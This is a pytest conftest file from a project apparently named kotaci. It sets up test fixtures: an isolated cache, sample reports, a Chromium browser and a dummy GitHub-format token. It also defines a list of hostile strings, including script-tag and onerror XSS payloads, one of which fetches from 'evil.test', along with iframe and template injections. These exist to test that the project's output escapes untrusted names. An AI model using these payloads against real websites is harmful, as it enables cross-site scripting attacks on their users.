"""What tests of several rooms use: a cache of their own with the sample in it, hostile names, and a Chromium."""

from __future__ import annotations

import multiprocessing
import os
import pickle
import shutil
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from kotaci.places import notebooks_folder
from kotaci.sample import open_sample
from kotaci.store import open_store

if TYPE_CHECKING:  # papermill takes a second to import
    from kotaci.report.runner import Report

HOSTILE = [
    "<script>fetch('https://evil.test/?a')</script>",
    '<img src="https://evil.test/x.png" onerror="alert(1)">',
    '"><svg onload="alert(2)">',
    "</pre></td></table><h1>owned</h1>",
    "[click](javascript:alert(3)) ![x](https://evil.test/y.png)",
    "```\n# broke out\n@octocat fixes #12 | closes octo/repo#7 GH-3 https://github.com/a/b/issues/1",
    "<style>body{display:none}</style><iframe src='https://evil.test'></iframe>",
    "{{ 7 * 7 }} {% raw %} **{n}** `tick` $\\alpha$ \x1b[31mred\x00\u202egnp",
]


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    """Put modules of slow tests first, then those of many: a worker takes whole modules, and a long one is not to be
    the last."""
    slow = {item.path for item in items if any(map(item.get_closest_marker, ("slow", "browser", "cargo")))}
    n_tests = Counter(item.path for item in items)
    items.sort(key=lambda item: (item.path not in slow, -n_tests[item.path], item.path))


@pytest.fixture(scope="session", autouse=True)
def cache(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Give all tests of one run, and what they start, a cache folder that is not the user's; return it."""
    mine = tmp_path_factory.getbasetemp()
    folder = (mine.parent if "PYTEST_XDIST_WORKER" in os.environ else mine) / "cache"
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_CACHE_HOME", str(folder))
        yield folder


@pytest.fixture(scope="session")
def sample(cache: Path) -> Path:
    """Return the bundled sample's store with its tables, made once for all workers: to be read, never written."""
    with open_sample() as store:
        return store.path


@pytest.fixture(scope="session")
def token() -> str:
    """Return the token with which reports are made: it has the form of GitHub's, and must stand nowhere."""
    return "ghp_" + "k0tac1" * 6


@pytest.fixture(scope="session")
def sample_reports(sample: Path, cache: Path, token: str) -> dict[str, Report]:
    """Return the reports of all notebooks on the sample, made once for all workers: to be read, never written."""
    from kotaci.report.runner import read_notebooks, run

    done = cache / "sample-reports.pickle"
    with open_store(sample) as store, store.lock("reports"):
        if not done.is_file():
            with pytest.MonkeyPatch.context() as patch:
                patch.setenv("GITHUB_TOKEN", token)
                parameters = {"store": str(sample)}
                made = run(read_notebooks(notebooks_folder()), parameters=parameters, out=cache / "sample-reports")
            done.write_bytes(pickle.dumps({report.name: report for report in made}))
    reports: dict[str, Report] = pickle.loads(done.read_bytes())  # noqa: S301  (written by another worker)
    return reports


@pytest.fixture(scope="session")
def processes() -> Any:
    """Return where processes are forked from that have everything imported: they live and die as any other does."""
    context = multiprocessing.get_context("forkserver")
    rooms = ("cli", "actions", "archives", "archives.git", "facts", "github", "store")
    context.set_forkserver_preload([*(f"kotaci.{room}" for room in rooms), "tests.commands"])
    return context


@pytest.fixture(scope="session")
def hostile() -> list[str]:
    """Return names as a stranger would write them into a branch, a job or a log."""
    return HOSTILE


@pytest.fixture(scope="session")
def chromium() -> str:
    """Return the path of a Chromium; without one the test is skipped, but not in CI."""
    names = ("chromium", "chromium-browser", "google-chrome")
    found = os.environ.get("KOTACI_CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
    if found:
        return found
    if os.environ.get("CI"):
        pytest.fail("no Chromium, and CI must have one: install chromium or set KOTACI_CHROMIUM")
    pytest.skip("no Chromium: install one or set KOTACI_CHROMIUM")


@pytest.fixture(scope="session")
def browser(chromium: str) -> Iterator[object]:
    """Return a started browser, one for all tests."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield started
        started.close()
